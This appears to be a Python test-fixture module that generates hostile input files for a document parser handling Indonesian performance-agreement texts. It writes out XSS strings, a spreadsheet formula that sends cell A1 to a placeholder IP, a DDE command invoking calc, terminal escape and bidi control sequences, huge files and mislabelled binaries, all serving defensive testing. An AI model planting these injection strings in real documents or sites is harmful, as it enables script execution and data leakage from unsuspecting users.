"""Texts that want to be run: by a browser, a spreadsheet, a terminal. And texts that are only large."""

from __future__ import annotations

SCRIPT = "<script>alert('musuh')</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"klik") @SUM(1+1) +cmd|\' /C calc\'!A0'
SCREEN = "\x1b]0;judul musuh\x07\x1b[2J\x1b[31mmerah\x1b[0m \x9b31m \u202eterbalik\u202c \x00\x08\x7f"


def _pk() -> str:
    rows = ["PERJANJIAN KINERJA TAHUN 2021", SCRIPT, "", "Nama : " + SCRIPT, "Jabatan : " + FORMULA, "", SCREEN]
    return "\n".join([*rows, "No\tSasaran\tIndikator Kinerja\tTarget", f"1\t{SCRIPT}\t{FORMULA}\t\x1b[31m12 %\x1b[0m"])


def make() -> dict[str, bytes]:
    """The hostile text files by name."""
    return {
        "skrip.txt": f"{SCRIPT}\n{FORMULA}\n".encode(),
        "layar.txt": f"{_pk()}\n".encode("utf-8", "surrogatepass").replace(b"\0", b""),
        "satu_baris.txt": b"x" * 3_000_000,
        "kata_banyak.txt": b"kata " * 400_000,
        "baris_banyak.txt": b"1 Jumlah 12\n" * 10_000,
        "teks_besar.txt": b"Meningkatnya kualitas layanan 86,67 %\n" * 290_000,
        "rusak.txt": bytes(range(128, 256)) * 40,
        "web.xls": b"<html><script>alert(1)</script><table><tr><td>1</td></tr></table></html>",
        "tabel_500.html": b"<table><tr><td>" * 500 + b"dalam" + b"</td></tr></table>" * 500,
        "teks.docx": b"ini bukan dokumen Word",
        "program.pdf": b"MZ\x90\x00" + b"\0" * 200,
    }
